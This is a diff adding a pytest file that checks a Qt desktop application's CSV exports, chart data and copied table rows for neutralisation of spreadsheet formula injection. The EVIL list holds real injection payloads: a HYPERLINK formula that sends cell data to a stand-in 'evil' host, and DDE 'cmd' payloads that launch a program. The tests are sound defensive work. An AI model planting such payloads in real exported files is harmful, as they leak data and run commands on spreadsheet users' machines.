@@ -1,0 +1,81 @@
+"""Row 11: no table that is exported or copied holds a formula."""
+
+import csv
+import io
+from dataclasses import replace
+from pathlib import Path
+
+import numpy as np
+import pytest
+from PySide6.QtCore import Qt
+from PySide6.QtGui import QGuiApplication, QStandardItem, QStandardItemModel
+from PySide6.QtTest import QTest
+from pytestqt.qtbot import QtBot
+
+from workbench.core.jobs import JobContext
+from workbench.logs.export import export_table
+from workbench.ui.charts import writing
+from workbench.ui.charts.model import Curve
+from workbench.ui.logs.wide_table import WideTable
+
+EVIL = [
+    '=HYPERLINK("http://evil/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "x;=1+1",
+    '",=1+1',
+]
+
+
+def cells(text: str, separator: str = ",") -> list[str]:
+    return [cell for line in csv.reader(io.StringIO(text), delimiter=separator) for cell in line]
+
+
+def assert_harmless(text: str, separator: str = ",") -> None:
+    found = cells(text, separator)
+    assert found
+    for cell in found:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n", "＝")), cell
+        assert not cell.startswith("-") or float(cell) <= 0, cell
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_headings_of_insights_and_their_cells(tmp_path: Path, evil: str) -> None:
+    export_table(tmp_path / "t.csv", [evil, "b"], [[evil, "-3.5"]], JobContext())
+    text = (tmp_path / "t.csv").read_text("utf-8")
+    assert_harmless(text)
+    assert cells(text)[-1] == "-3.5"
+    for line in text.split("\r\n"):  # in a spreadsheet whose separator is the semicolon
+        assert_harmless(line, ";") if line and '"' not in line else None
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_data_of_charts(evil: str) -> None:
+    curve = Curve(evil, np.array([0.0, 60.0]), np.array([-1.5, 2.0]))
+    for text in (
+        writing.csv_text((curve,), "title"),
+        writing.csv_text((replace(curve, label=""),), evil),
+    ):
+        assert_harmless(text)
+        assert "-1.5" in cells(text)
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_rows_that_are_copied(qtbot: QtBot, evil: str) -> None:
+    model = QStandardItemModel(1, 2)
+    model.setItem(0, 0, QStandardItem(evil))
+    model.setItem(0, 1, QStandardItem("-7"))
+    table = WideTable("table", "Table")
+    qtbot.addWidget(table)
+    table.setModel(model)
+    table.selectRow(0)
+    QTest.keyClick(table, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
+    text = QGuiApplication.clipboard().text()
+    assert text.count("\t") == 1
+    assert_harmless(text, "\t")
+    assert text.endswith("\t-7")
